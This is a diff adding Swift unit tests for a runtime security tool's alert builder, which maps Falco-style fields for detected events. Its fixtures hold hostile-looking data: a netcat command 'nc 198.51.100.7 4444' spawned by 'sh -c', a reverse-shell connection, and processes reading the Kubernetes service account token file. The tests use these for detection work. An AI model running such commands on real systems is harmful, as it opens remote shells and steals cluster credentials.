@@ -1,0 +1,134 @@
+// SPDX-License-Identifier: Apache-2.0
+// AlertBuilder: Falco field names, null for unknown, `host` for host processes, 12-hex container ids,
+// ancestry, and `%field` rendering.
+
+import XCTest
+@testable import RuntimeWatchCore
+
+final class AlertBuilderTests: XCTestCase {
+    let template = "Token read by %proc.name (pid=%proc.pid container=%container.id pod=%k8s.pod.name)."
+
+    func testContainerProcessFields() {
+        let state = Fixture.state(inContainer: true)
+        let record = Fixture.tokenOpen(1)
+        let alert = AlertBuilder.build(rule: .serviceAccountTokenRead, output: template, record: record,
+                                       pid: ProcessID(130), state: state, hostname: "node-1")
+        let f = alert.fields
+        XCTAssertEqual(f["evt.time"], .int(Int64(Fixture.at(1))))
+        XCTAssertEqual(f["evt.type"], .string("open"))
+        XCTAssertEqual(f["proc.pid"], .int(130))
+        XCTAssertEqual(f["proc.ppid"], .int(100))
+        XCTAssertEqual(f["proc.name"], .string("nc"))
+        XCTAssertEqual(f["proc.exepath"], .string("/usr/bin/nc.openbsd"))
+        XCTAssertEqual(f["proc.cmdline"], .string("nc 198.51.100.7 4444"))
+        XCTAssertEqual(f["proc.args"], .string("198.51.100.7 4444"))
+        XCTAssertEqual(f["proc.cwd"], .string("/tmp"))
+        XCTAssertEqual(f["proc.pname"], .string("sh"))
+        // Falco builds pcmdline from the parent's comm, not its argv[0].
+        XCTAssertEqual(f["proc.pcmdline"], .string("sh -c nc 198.51.100.7 4444"))
+        XCTAssertEqual(f["proc.aname[2]"], .string("containerd-shim"))
+        XCTAssertEqual(f["proc.apid[2]"], .int(50))
+        XCTAssertEqual(f["proc.aname[3]"], .string("systemd"))
+        XCTAssertEqual(f["proc.apid[3]"], .int(1))
+        XCTAssertEqual(f["proc.aname[4]"], .null)
+        XCTAssertEqual(f["proc.apid[5]"], .null)
+        XCTAssertEqual(f["proc.ancestry"], .list(["sh(100)", "containerd-shim(50)", "systemd(1)"]))
+        XCTAssertEqual(f["user.uid"], .int(0), "user.uid is the effective uid")
+        XCTAssertEqual(f["group.gid"], .int(1000))
+        XCTAssertEqual(f["container.id"], .string("0123456789ab"))
+        XCTAssertEqual(f["container.name"], .string("web"))
+        XCTAssertEqual(f["container.image"], .string("registry.example.com/shop/web:1.4.2"))
+        XCTAssertEqual(f["container.image.repository"], .string("registry.example.com/shop/web"))
+        XCTAssertEqual(f["container.image.tag"], .string("1.4.2"))
+        XCTAssertEqual(f["k8s.pod.name"], .string("web-7d4b9c-x2x9z"))
+        XCTAssertEqual(f["k8s.ns.name"], .string("shop"))
+        XCTAssertEqual(f["k8s.pod.uid"], .string(Fixture.podUID))
+        XCTAssertEqual(f["fd.name"], .string("/var/run/secrets/kubernetes.io/serviceaccount/token"))
+        XCTAssertEqual(f["fd.rip"], .null)
+        XCTAssertEqual(f["fd.rport"], .null)
+
+        XCTAssertEqual(alert.output, "Token read by nc (pid=130 container=0123456789ab pod=web-7d4b9c-x2x9z).")
+        XCTAssertEqual(alert.ruleID, "service-account-token-read")
+        XCTAssertEqual(alert.ruleName, "Service account token read")
+        XCTAssertEqual(alert.priority, .warning)
+        XCTAssertEqual(alert.source, .syscall)
+        XCTAssertEqual(alert.hostname, "node-1")
+        XCTAssertTrue(alert.tags.contains("T1552.007"))
+        XCTAssertEqual(alert.advice, Rule.serviceAccountTokenRead.advice)
+    }
+
+    func testHostProcessFields() {
+        let state = Fixture.state(inContainer: false)
+        let alert = AlertBuilder.build(rule: .reverseShell, output: template, record: Fixture.connect(1), pid: ProcessID(130),
+                                       state: state, hostname: "node-1", priority: .emergency)
+        let f = alert.fields
+        XCTAssertEqual(f["container.id"], .string("host"))
+        XCTAssertEqual(f["container.name"], .string("host"))
+        XCTAssertEqual(f["container.image"], .null)
+        XCTAssertEqual(f["container.image.repository"], .null)
+        XCTAssertEqual(f["k8s.pod.name"], .null)
+        XCTAssertEqual(f["k8s.ns.name"], .null)
+        XCTAssertEqual(f["k8s.pod.uid"], .null)
+        XCTAssertEqual(f["proc.pname"], .string("bash"))
+        XCTAssertEqual(f["proc.pcmdline"], .string("bash"), "argv of just argv[0] gives the bare name")
+        XCTAssertEqual(f["evt.type"], .string("connect"))
+        XCTAssertEqual(f["fd.name"], .string("10.244.1.5:40000->198.51.100.7:4444"))
+        XCTAssertEqual(f["fd.rip"], .string("198.51.100.7"))
+        XCTAssertEqual(f["fd.rport"], .int(4444))
+        XCTAssertEqual(f["fd.l4proto"], .string("tcp"))
+        XCTAssertEqual(f["fd.type"], .string("ipv4"))
+        XCTAssertEqual(alert.priority, .emergency, "the per-alert priority overrides the rule's default")
+        XCTAssertEqual(alert.output, "Token read by nc (pid=130 container=host pod=<NA>).")
+    }
+
+    func testUnknownProcessIsNullNotHost() {
+        let alert = AlertBuilder.build(rule: .serviceAccountTokenRead, output: "%proc.name %container.id",
+                                       record: Fixture.tokenOpen(1, pid: 999), pid: ProcessID(999), state: SystemState(), hostname: "n")
+        XCTAssertEqual(alert.fields["proc.pid"], .int(999))
+        XCTAssertEqual(alert.fields["proc.name"], .null)
+        XCTAssertEqual(alert.fields["container.id"], .null, "an unknown process is not claimed to be a host process")
+        XCTAssertEqual(alert.fields["proc.ancestry"], .list([]))
+        XCTAssertEqual(alert.output, "<NA> <NA>")
+    }
+
+    func testProcessCarriedByTheEventIsUsedWhenStateLacksIt() {
+        let info = ProcessInfo(pid: ProcessID(77), ppid: ProcessID(1), comm: "cat", exe: "/bin/busybox",
+                               argv: ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], cgroup: Fixture.cgroup)
+        let record = Fixture.record(1, .fileOpen(FileOpenEvent(pid: ProcessID(77), path: "/t", process: info)))
+        // The state deliberately has not applied the record.
+        let alert = AlertBuilder.build(rule: .serviceAccountTokenRead, output: "", record: record, pid: ProcessID(77),
+                                       state: SystemState(), hostname: "n")
+        XCTAssertEqual(alert.fields["proc.name"], .string("cat"))
+        XCTAssertEqual(alert.fields["proc.exepath"], .string("/bin/busybox"))
+        XCTAssertEqual(alert.fields["container.id"], .string("0123456789ab"))
+        XCTAssertEqual(alert.fields["container.name"], .null, "metadata not known yet")
+    }
+
+    func testExtraFieldsOverrideAndRender() {
+        let state = Fixture.state(inContainer: true)
+        let alert = AlertBuilder.build(rule: .reverseShell, output: "shell %proc.name to %fd.rip:%fd.rport via %shell.fd%% done",
+                                       record: Fixture.connect(1), pid: ProcessID(130), state: state, hostname: "n",
+                                       extra: ["shell.fd": .string("0,1,2"), "fd.rport": .int(1)])
+        XCTAssertEqual(alert.output, "shell nc to 198.51.100.7:1 via 0,1,2% done")
+    }
+
+    func testRenderEdgeCases() {
+        let fields: [String: FieldValue] = ["a.b": .string("x"), "proc.aname[2]": .string("y"), "n": .int(3)]
+        XCTAssertEqual(AlertBuilder.render("%a.b.", fields: fields), "x.", "trailing dot is punctuation")
+        XCTAssertEqual(AlertBuilder.render("%proc.aname[2]/%n", fields: fields), "y/3")
+        XCTAssertEqual(AlertBuilder.render("100% sure", fields: fields), "100% sure", "lone percent stays")
+        XCTAssertEqual(AlertBuilder.render("%missing", fields: fields), "<NA>")
+        XCTAssertEqual(AlertBuilder.render("end %", fields: fields), "end %")
+        XCTAssertEqual(AlertBuilder.render("ünï %a.b ✓", fields: fields), "ünï x ✓")
+    }
+
+    func testIPv6ConnectTuple() {
+        let state = Fixture.state(inContainer: true)
+        let record = Fixture.record(1, .connect(ConnectEvent(pid: ProcessID(130), proto: "tcp", localAddress: "fd00::5", localPort: 5555,
+                                                             remoteAddress: "2001:db8::1", remotePort: 443)))
+        let alert = AlertBuilder.build(rule: .unexpectedOutboundConnection, output: "", record: record, pid: ProcessID(130),
+                                       state: state, hostname: "n")
+        XCTAssertEqual(alert.fields["fd.name"], .string("[fd00::5]:5555->[2001:db8::1]:443"))
+        XCTAssertEqual(alert.fields["fd.type"], .string("ipv6"))
+    }
+}
